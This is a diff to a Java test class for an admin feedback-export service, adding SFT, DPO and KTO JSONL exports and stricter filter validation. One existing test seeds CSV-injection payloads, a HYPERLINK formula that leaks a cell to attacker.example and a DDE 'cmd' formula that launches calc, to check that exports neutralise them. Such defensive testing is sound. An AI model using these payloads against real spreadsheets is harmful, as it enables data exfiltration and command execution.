@@ -65,6 +65,9 @@ class AdminExportTests {
 			/admin/export.csv       | text/csv;charset=UTF-8 | feedback-TODAY.csv
 			/admin/export.jsonl     | application/x-ndjson   | feedback-TODAY.jsonl
 			/admin/export-kto.jsonl | application/x-ndjson   | feedback-kto-TODAY.jsonl
+			/admin/export-kto.jsonl?context=turn | application/x-ndjson | feedback-kto-TODAY.jsonl
+			/admin/export-sft.jsonl | application/x-ndjson   | feedback-sft-TODAY.jsonl
+			/admin/export-dpo.jsonl | application/x-ndjson   | feedback-dpo-TODAY.jsonl
 			""")
 	void eachExportIsADatedAttachment(String path, String type, String filename) throws Exception {
 		MvcResult result = download(path);
@@ -88,8 +91,11 @@ class AdminExportTests {
 	@Test
 	void ktoLeavesOutNeutralRatingsEvenWhenAskedForThem() throws Exception {
 		assertThat(download("/admin/export-kto.jsonl").getResponse().getContentAsString().lines())
-			.containsExactly("{\"prompt\":\"down\",\"completion\":\"You said, \\\"down\\\" ...interesting.\",\"label\":false}",
-					"{\"prompt\":\"up\",\"completion\":\"You said, \\\"up\\\" ...interesting.\",\"label\":true}");
+			.containsExactly(
+					"{\"prompt\":\"down\",\"completion\":\"You said, \\\"down\\\" ...interesting.\",\"label\":false,"
+							+ "\"reasons\":[],\"correction\":null}",
+					"{\"prompt\":\"up\",\"completion\":\"You said, \\\"up\\\" ...interesting.\",\"label\":true,"
+							+ "\"reasons\":[],\"correction\":null}");
 		assertThat(download("/admin/export-kto.jsonl?rating=neutral").getResponse().getContentAsString()).isEmpty();
 	}
 
@@ -100,21 +106,23 @@ class AdminExportTests {
 		String prompt = start + "HYPERLINK(\"https://attacker.example/?leak=\"&A1,\"Click\")";
 		String answer = start + "1+1";
 		String comment = start + "cmd|' /C calc'!A0";
+		String correction = start + "SUM(A1:A9)";
 		Seeder seeder = new Seeder(jdbc);
 		seeder.clear();
 		seeder.insert(new Seed(UUID.randomUUID(), prompt, answer, THUMBS, 0, comment,
-				AdminDashboardTests.at(AdminDashboardTests.D, 9, 0, 0)));
+				AdminDashboardTests.at(AdminDashboardTests.D, 9, 0, 0)).withCorrection(correction));
 
 		String csv = download("/admin/export.csv").getResponse().getContentAsString();
 		CSVRecord record = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getRecords().get(0);
-		assertThat(List.of(record.get("prompt"), record.get("answer"), record.get("comment")))
-			.containsExactly("'" + prompt, "'" + answer, "'" + comment);
+		assertThat(List.of(record.get("prompt"), record.get("answer"), record.get("comment"), record.get("correction")))
+			.containsExactly("'" + prompt, "'" + answer, "'" + comment, "'" + correction);
 		assertThat(record.get("rating_label")).isEqualTo("Thumbs down");
 
 		JsonMapper json = JsonMapper.builder().build();
 		JsonNode line = json.readTree(download("/admin/export.jsonl").getResponse().getContentAsString().strip());
-		assertThat(List.of(line.get("prompt").asString(), line.get("answer").asString(), line.get("comment").asString()))
-			.containsExactly(prompt, answer, comment);
+		assertThat(List.of(line.get("prompt").asString(), line.get("answer").asString(), line.get("comment").asString(),
+				line.get("correction").asString()))
+			.containsExactly(prompt, answer, comment, correction);
 		JsonNode example = json.readTree(download("/admin/export-kto.jsonl").getResponse().getContentAsString().strip());
 		assertThat(List.of(example.get("prompt").asString(), example.get("completion").asString()))
 			.containsExactly(prompt, answer);
@@ -126,6 +134,10 @@ class AdminExportTests {
 			/admin/export.jsonl?from=yesterday     | The “from” date “yesterday” is not a date
 			/admin/export-kto.jsonl?commented=1    | “commented” is true or false, not “1”.
 			/admin/export.csv?from=2026-02-02&to=2026-02-01 | The “from” date (2026-02-02) is after the “to” date (2026-02-01).
+			/admin/export-sft.jsonl?context=all     | “context” is turn or conversation, not “all”.
+			/admin/export-dpo.jsonl?context=turns   | “context” is turn or conversation, not “turns”.
+			/admin/export-kto.jsonl?context=TURN    | “context” is turn or conversation, not “TURN”.
+			/admin/export-sft.jsonl?rating=great&context=turn | Unknown rating “great”
 			""")
 	void badFiltersGive400WithAMessageAndNoFile(String url, String message) throws Exception {
 		String html = mvc.perform(get(url))
